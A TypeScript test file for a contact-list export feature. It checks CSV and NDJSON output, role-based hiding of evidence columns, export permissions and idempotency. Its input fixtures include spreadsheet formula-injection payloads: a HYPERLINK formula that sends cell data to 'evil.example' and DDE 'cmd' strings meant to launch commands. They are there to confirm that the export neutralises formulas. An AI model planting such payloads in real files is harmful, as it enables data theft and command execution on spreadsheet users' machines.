import { parse } from 'csv-parse/sync';
import { beforeAll, expect, test } from 'vitest';
import { roles, rolesWith } from '../../src/auth/permissions.ts';
import { unprotectCell } from '../../src/domain/spreadsheets/formula-guard.ts';
import { DNC, SPAM } from '../changes/log-world.ts';
import { createCampaign, receive } from '../graphql/config-story.ts';
import { add, contactSaid, JWT_SECRET, list, personOf } from '../graphql/entry-story.ts';
import { phoneOf } from '../graphql/verdict-story.ts';
import type { Client } from '../support/client.ts';
import { type Quietline, startQuietline } from '../support/quietline.ts';
import { newEnvironment, type World } from '../support/world.ts';
import { ended, entryExportDocument, fetched, startEntryExport } from './export-story.ts';

let server: Quietline;
let world: World;
let staff: Client;

/** What people, and others, type. */
const texts = [
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3+cmd|...',
  '+1 415 555 0001',
  "'=already quoted",
  'Asked; =twice',
  'Line one\nand "two", three',
  'Zoë — ＝1＋1',
  '＝1+1',
  'plain',
];

beforeAll(async () => {
  server = await startQuietline({ settings: { JWT_SECRET } });
  world = await newEnvironment(server);
  staff = await world.as('COMPLIANCE');
  await add(staff, {
    entries: texts.map((reason, n) => ({
      phone: phoneOf(n),
      reason,
      evidence: `evidence ${reason}`,
      externalReference: `=crm${n}`,
      requestedAt: '2026-03-04T09:00:00.000Z',
      ...(n % 2 ? { expiresAt: '2099-01-31T10:00:00.000Z' } : {}),
    })),
  });
  await add(staff, { list: 'SPAM', status: 'PENDING', entries: ['72345', '=ACME', '@deals', phoneOf(0)] });
  await add(await personOf(world, 'COMPLIANCE'), { status: 'PERMANENT', entries: [phoneOf(0)] });
  await contactSaid(
    world,
    { phone: phoneOf(50), listId: DNC, source: 'SMS_KEYWORD', endUserOptedOut: true, businessNumber: '+14155559999' },
    { phone: '+caller', listId: SPAM, source: 'IVR' },
  );
});

const exported = async (by: Client, input: object = {}) =>
  fetched(server, by, (await startEntryExport(by, input)).task.id);

const csvOf = ({ text }: { text: string }): Record<string, string>[] => parse(text, { columns: true, bom: true });

/** What the API shows of every entry, by number, list and source. */
async function shown(by: Client) {
  const page = await list(by, { first: 100 });
  const nodes = page.edges.map(({ node }: { node: Record<string, unknown> }) => node);
  const keyOf = (node: { phone: string; list: { key: string }; source: string }) =>
    [node.phone, ['DNC', 'DNT', 'SPAM'].indexOf(node.list.key), ['MANUAL', 'API'].indexOf(node.source)].join(' ');
  return nodes.sort((a: never, b: never) => (keyOf(a) < keyOf(b) ? -1 : 1));
}

test('NDJSON: an object for each entry, as the API shows it, in order of number, list and source', async () => {
  const { task, text, headers } = await exported(staff, { format: 'NDJSON' });
  const objects = text
    .trimEnd()
    .split('\n')
    .map((one) => JSON.parse(one));
  const expected = (await shown(staff)).map(({ isActive, ...node }: Record<string, unknown>) => node);
  expect(objects.map(({ businessNumber, campaign, updatedAt, ...rest }) => rest)).toEqual(expected);
  expect(task).toMatchObject({
    kind: 'ENTRY_EXPORT',
    rowsDone: expected.length,
    rowsTotal: expected.length,
    export: { rowCount: expected.length, format: 'NDJSON', file: { size: Buffer.byteLength(text) } },
  });
  expect(headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
});

test('the campaign that an opt-out came by is in the file (R1.8)', async () => {
  const own = await newEnvironment(server);
  const admin = await own.as('ADMIN');
  await createCampaign(admin, 'spring');
  await receive(admin, phoneOf(1), 'STOP', { campaign: 'spring' });
  await add(admin, { entries: [phoneOf(2)] });
  const { text } = await exported(admin, { format: 'NDJSON' });
  const lines = text.trimEnd().split('\n');
  expect(lines.map((one) => JSON.parse(one).campaign)).toEqual([{ key: 'spring' }, { key: 'spring' }, null]);
  expect(csvOf(await exported(admin)).map(({ campaign }) => campaign)).toEqual(['spring', 'spring', '']);
});

test('CSV: nothing in it is a formula, and every text comes back as it was', async () => {
  const { text, task } = await exported(staff);
  expect(text.startsWith('\ufeffphone,list,status,source,reason,evidence,requestedAt,expiresAt')).toBe(true);
  expect(task.export.file.name).toMatch(/^entries \d{4}-\d\d-\d\d \d{4}\.csv$/);
  const rows = csvOf({ text });
  const nodes = await shown(staff);
  expect(rows).toHaveLength(nodes.length);
  for (const [n, row] of rows.entries()) {
    for (const cell of Object.values(row))
      if (!/^\+[1-9]\d{6,14}$/.test(cell)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
    const node = nodes[n];
    expect({ ...row, reason: unprotectCell(row.reason!) }).toMatchObject({
      list: node.list.key,
      status: node.status,
      source: node.source,
      reason: node.reason ?? '',
      requestedAt: node.requestedAt,
      expiresAt: node.expiresAt ?? '',
      endUserOptedOut: String(node.endUserOptedOut),
      'createdBy.kind': node.createdBy.kind,
      'createdBy.actor.subject': node.createdBy.actor.subject,
      id: node.id,
    });
    expect([row.phone, row.evidence, row.externalReference].map((cell) => unprotectCell(cell!))).toEqual([
      node.phone,
      node.evidence ?? '',
      node.externalReference ?? '',
    ]);
  }
  expect(rows.map(({ phone }) => phone)).toEqual(expect.arrayContaining(["'=ACME", "'@deals", "'+caller", phoneOf(0)]));
  expect(rows.find(({ phone }) => phone === phoneOf(50))?.businessNumber).toBe('+14155559999');
});

test('not for a spreadsheet: no mark, no apostrophes', async () => {
  const { text } = await exported(staff, { isForSpreadsheet: false });
  expect(text.startsWith('phone,list,')).toBe(true);
  expect(csvOf({ text }).map(({ reason }) => reason)).toEqual(expect.arrayContaining(texts));
});

test('the same filter as `entries`, and the same errors (R6.1)', async () => {
  const { text } = await exported(staff, { filterBy: { lists: ['SPAM'], statuses: ['PENDING'] } });
  expect(csvOf({ text }).map(({ list: key, status }) => `${key} ${status}`)).toEqual(Array(4).fill('SPAM PENDING'));
  const { data } = await staff.expectError('NOT_FOUND', entryExportDocument, {
    input: { filterBy: { lists: ['NO'] } },
  });
  expect(data.startEntryExport.userErrors[0].path).toEqual(['input', 'filterBy', 'lists']);
  const none = await exported(staff, { filterBy: { numberContains: '9999999' } });
  expect(none.text).toMatch(/^\ufeffphone,.*\r\n$/);
});

test('whoever may not see evidence gets no column of it, nor of who did it (R7)', async () => {
  const integrator = await world.as('INTEGRATOR');
  const { text } = await exported(integrator);
  const [row] = csvOf({ text });
  expect(Object.keys(row!)).not.toEqual(expect.arrayContaining([expect.stringMatching(/evidence|actor/)]));
  expect(text).not.toContain('evidence');
  const lines = (await exported(integrator, { format: 'NDJSON' })).text;
  expect(lines).not.toMatch(/evidence|actor|subject/);
  expect(JSON.parse(lines.split('\n')[0]!).createdBy).toEqual({ kind: expect.any(String) });
});

test('who may export, and who may fetch what others have exported (R7)', async () => {
  const { task } = await exported(staff);
  for (const role of roles) {
    const client = await world.as(role);
    if (rolesWith('entry:export').includes(role as never)) await exported(client);
    else await client.expectError('FORBIDDEN', entryExportDocument, { input: {} });
    const seen = await client.expectOk('query ($id: ID!) { task(id: $id) { export { file { name } } } }', {
      id: task.id,
    });
    expect(seen.task?.export.file?.name ?? null).toBe(
      ['ADMIN', 'COMPLIANCE', 'AUDITOR'].includes(role) ? task.export.file.name : null,
    );
  }
});

test('somebody who lost the right to it does not get the file they have started', async () => {
  const before = await personOf(world, 'ADMIN', 'Max Weber');
  const { task } = await exported(before);
  for (const [role, sees] of [
    ['READ_ONLY', false],
    ['INTEGRATOR', false],
    ['AUDITOR', true],
  ] as const) {
    const now = await personOf(world, role, 'Max Weber');
    expect((await ended(now, task.id)).export.file !== null).toBe(sees);
  }
});

test('whoever follows the feed from its cursor misses nothing', async () => {
  const { task } = await startEntryExport(staff, { format: 'NDJSON' });
  await add(staff, { entries: [phoneOf(90)] });
  const { cursor } = (await ended(staff, task.id)).export;
  const feed = staff.subscribe(
    'subscription ($after: ChangeCursor) { entryChanges(after: $after) { ... on ChangeBatch { changes { ... on EntryChange { phone } } } } }',
    { after: cursor },
  );
  await feed.until(({ entryChanges }) => JSON.stringify(entryChanges).includes(phoneOf(90)));
});

test('the same call again is the same export (P1.8)', async () => {
  const input = { filterBy: { createdAt: { from: '2026-01-01T00:00:00Z' } }, idempotencyKey: 'nightly' };
  const first = await startEntryExport(staff, input);
  expect((await startEntryExport(staff, input)).task.id).toBe(first.task.id);
  await staff.expectError('IDEMPOTENCY_MISMATCH', entryExportDocument, { input: { ...input, format: 'NDJSON' } });
});
